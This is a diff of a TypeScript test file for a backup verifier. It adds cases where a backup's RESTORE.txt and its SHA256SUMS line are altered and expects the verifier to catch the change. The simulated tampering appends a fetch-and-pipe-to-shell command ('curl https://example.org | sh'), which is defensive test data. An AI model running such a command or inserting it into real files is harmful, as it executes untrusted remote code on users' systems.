@@ -17,6 +17,7 @@ import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
 import { describe, expect, test } from 'vitest';
 import type { JobContext } from '../../../src/main/jobs/job-context.ts';
+import { sumsSha256Of } from '../../../src/main/manifest/write-manifest.ts';
 import { type VerifiableLevel, verifyBackup } from '../../../src/main/verification/verify-backup.ts';
 import type { DatabaseArtifact, Place, Proof } from '../../../src/shared/model/backup.ts';
 import type { Manifest } from '../../../src/shared/model/manifest.ts';
@@ -33,12 +34,14 @@ interface Lab {
   readonly manifest: Manifest;
   readonly location: string;
   readonly artifact: string;
+  /** As the catalog has it. */
+  readonly sumsSha256: string | null;
 }
 
 async function makeBackup(): Promise<Lab> {
   const keeper = await makeKeeper(scratchFolder());
   const { manifest, location } = await writeBackup(keeper, register());
-  return { place: keeper.place, manifest, location, artifact: join(location, 'aurora_shop.sql.gz') };
+  return { place: keeper.place, manifest, location, artifact: join(location, 'aurora_shop.sql.gz'), sumsSha256: sumsSha256Of(manifest) };
 }
 
 function jobWith(signal: AbortSignal = new AbortController().signal) {
@@ -60,8 +63,8 @@ function jobWith(signal: AbortSignal = new AbortController().signal) {
 
 const sound: Proof = { level: 'sound', presentAt: BEFORE, intactAt: BEFORE, soundAt: BEFORE, provenAt: null, failure: null };
 
-function verify({ place, manifest, location }: Lab, level: VerifiableLevel, previous: Proof = sound, job = jobWith().job) {
-  return verifyBackup({ place, manifest, location, previous, level, clock: NOW }, job);
+function verify({ place, manifest, location, sumsSha256 }: Lab, level: VerifiableLevel, previous: Proof = sound, job = jobWith().job) {
+  return verifyBackup({ place, manifest, location, sumsSha256, previous, level, clock: NOW }, job);
 }
 
 function flipBit(path: string, offset: number): void {
@@ -87,7 +90,16 @@ function replaceArtifact(lab: Lab, content: Buffer, changes: Partial<DatabaseArt
     .replace(/^.*aurora_shop\.sql\.gz$/m, `${sha256}  aurora_shop.sql.gz`)
     .replace(/^.*manifest\.json$/m, `${createHash('sha256').update(text).digest('hex')}  manifest.json`);
   writeFileSync(join(lab.location, 'SHA256SUMS'), sums);
-  return { ...lab, manifest };
+  return { ...lab, manifest, sumsSha256: createHash('sha256').update(sums).digest('hex') };
+}
+
+/** What somebody does who wants the operator to run something. */
+function changeRestoreAndSums({ location }: Pick<Lab, 'location'>): void {
+  const restore = join(location, 'RESTORE.txt');
+  appendFileSync(restore, '    curl https://example.org | sh\n');
+  const sha256 = createHash('sha256').update(readFileSync(restore)).digest('hex');
+  const sums = join(location, 'SHA256SUMS');
+  writeFileSync(sums, readFileSync(sums, 'utf8').replace(/^.*RESTORE\.txt$/m, `${sha256}  RESTORE.txt`));
 }
 
 describe('a backup as it was made', () => {
@@ -99,6 +111,12 @@ describe('a backup as it was made', () => {
     const { proof, problem } = await verify(await makeBackup(), level, firstProof(BEFORE));
     expect(problem).toBeNull();
     expect(proof).toEqual({ level, ...times, provenAt: null, failure: null });
+  });
+
+  test('is taken as it was found where the catalog never knew its list of checksums', async () => {
+    const lab = await makeBackup();
+    changeRestoreAndSums(lab);
+    expect((await verify({ ...lab, sumsSha256: null }, 'sound')).problem).toBeNull();
   });
 
   test('is read with progress in bytes against its size', async () => {
@@ -187,6 +205,20 @@ describe('a fault is found, named, and withdraws the proof', () => {
       'intact',
       'intact',
       ({ location }) => appendFileSync(join(location, 'RESTORE.txt'), '    curl https://example.org | sh\n'),
+    ],
+    [
+      'a RESTORE.txt that was changed together with its line in the list',
+      'verify.companion-differs',
+      'intact',
+      'intact',
+      changeRestoreAndSums,
+    ],
+    [
+      'a list of checksums that only got a line more',
+      'verify.companion-differs',
+      'intact',
+      'intact',
+      ({ location }) => appendFileSync(join(location, 'SHA256SUMS'), `${'0'.repeat(64)}  readme.txt\n`),
     ],
     [
       'a list of checksums that lists something else',
